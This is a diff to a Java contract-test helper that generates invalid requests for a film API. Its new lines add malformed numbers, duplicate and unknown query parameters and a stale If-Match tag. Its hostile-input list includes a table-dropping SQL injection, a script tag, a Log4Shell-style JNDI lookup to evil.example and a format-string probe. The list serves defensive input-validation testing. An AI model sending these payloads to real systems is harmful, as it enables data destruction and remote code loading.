@@ -1,18 +1,48 @@
 package kinoteka.quickstart.contract;
 
+import static java.util.Objects.requireNonNull;
+
 import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
 import java.util.function.Consumer;
+import java.util.stream.Stream;
 import tools.jackson.databind.JsonNode;
 import tools.jackson.databind.node.ObjectNode;
 
 /** Turns a right request into wrong ones. */
 final class Mutations {
 
-    private static final List<String> BAD_IDS = List.of("0", "-1", "9223372036854775808", "abc", "1.5", "%00", "%27");
+    /** Each is no spelling of a number, or a second one; the last is 16 in full-width digits. */
+    private static final List<String> NO_NUMBERS = List.of(
+            "x",
+            "1e3",
+            "1.5x",
+            "0x10",
+            "%2310",
+            "+7",
+            "%2B7",
+            "07",
+            "%207",
+            "7%20",
+            "1,2",
+            "%EF%BC%91%EF%BC%96",
+            "%D9%A3",
+            "");
+
+    private static final List<String> BAD_IDS = Stream.concat(
+                    NO_NUMBERS.stream().filter(id -> !id.isEmpty()),
+                    Stream.of("0", "-1", "9223372036854775808", "1.5", "1.0", "%00", "%27", "1;a=b"))
+            .toList();
+    private static final Map<String, List<String>> BAD_VALUES = Map.of(
+            "integer", concat(NO_NUMBERS, "-1", "1.0", "99999999999999999999"),
+            "number", concat(NO_NUMBERS, "-1", "9", "4.", ".4", "4e0"),
+            "array", List.of("nothing", "", ",", "STAFF,", "%20"),
+            "string", List.of("%00", "", "%ff", "%C3"));
     private static final List<String> HOSTILE_TEXTS = List.of(
             "'; drop table movies; --", "<script>alert(1)</script>", "${jndi:ldap://evil.example}", "%s%n", "🎬");
+
+    private static final String STALE = "\"stale\"";
 
     private final Document document;
 
@@ -24,7 +54,12 @@ final class Mutations {
         List<Request> wrong = new ArrayList<>();
         addBadTargets(operation, right, wrong::add);
         addBadHeaders(operation, right, wrong::add);
-        operation.body().ifPresent(schema -> addBadBodies(schema, right, wrong::add));
+        boolean isConditional = operation.parameters("header").stream()
+                .anyMatch(parameter -> parameter.get("name").asString().equals("If-Match"));
+        operation
+                .body()
+                .ifPresent(schema ->
+                        addBadBodies(schema, isConditional ? right.with("If-Match", STALE) : right, wrong::add));
         return wrong;
     }
 
@@ -42,22 +77,18 @@ final class Mutations {
                 }
             }
         }
+        var path = right.target().split("[?]", 2)[0];
         for (var parameter : operation.parameters("query")) {
             var name = parameter.get("name").asString();
-            var type = Values.type(parameter.get("schema"));
-            var path = right.target().split("[?]", 2)[0];
-            for (var value : Map.of(
-                            "integer",
-                            List.of("x", "-1", "1e3"),
-                            "number",
-                            List.of("x", "-1", "9"),
-                            "array",
-                            List.of("nothing"))
-                    .getOrDefault(type, List.of("%00"))) {
-                boolean isCursor = name.equals("last_event_id");
-                var request = right.withTarget(path + "?" + name + "=" + value);
-                add.accept(isCursor ? request : request.thatMustFail());
-            }
+            requireNonNull(BAD_VALUES.get(Values.type(parameter.get("schema"))))
+                    .forEach(value -> add.accept(
+                            right.withTarget(path + "?" + name + "=" + value).thatMustFail()));
+            add.accept(
+                    right.withTarget(path + "?" + name + "=1&" + name + "=2x").thatMustFail());
+            add.accept(right.withTarget(path + "?" + name).thatMustFail());
+        }
+        for (var unknown : List.of("invented", "limit[]", "_limit", "%00", "LIMIT")) {
+            add.accept(right.withTarget(path + "?" + unknown + "=1").thatMustFail());
         }
     }
 
@@ -73,7 +104,7 @@ final class Mutations {
                 add.accept(right.with(name, "no tag").thatMustFail());
             }
             if (name.equals("If-Match")) {
-                add.accept(right.with(name, "\"stale\"").thatMustFail());
+                add.accept(right.with(name, STALE).expecting(Request.Outcome.REJECTED_OR_OUTDATED));
             }
         }
         add.accept(right.with("Accept", "image/png").thatMustFail());
@@ -99,10 +130,16 @@ final class Mutations {
                 text.replaceFirst("\\{", "{\"id\":1,\"id\":2,"))) {
             add.accept(right.withBody(bad).thatMustFail());
         }
-        add.accept(right.withBody(
-                        changed(body, "invented", Document.JSON.getNodeFactory().numberNode(1)))
-                .thatMustFail());
         var described = document.resolve(schema);
+        for (var name : List.of("invented", "id")) {
+            if (!described.get("properties").has(name)) {
+                add.accept(right.withBody(changed(body, name, Document.JSON.nullNode()))
+                        .thatMustFail());
+                add.accept(right.withBody(changed(
+                                body, name, Document.JSON.getNodeFactory().numberNode(1)))
+                        .thatMustFail());
+            }
+        }
         described.path("required").forEach(name -> {
             var fewer = body.deepCopy();
             fewer.remove(name.asString());
@@ -142,6 +179,10 @@ final class Mutations {
             add.accept(right.withBody(changed(body, name, nodes.stringNode("x".repeat(1 << 20))))
                     .thatMustFail());
         }
+    }
+
+    private static List<String> concat(List<String> some, String... more) {
+        return Stream.concat(some.stream(), Stream.of(more)).toList();
     }
 
     private static String changed(ObjectNode body, String name, JsonNode value) {
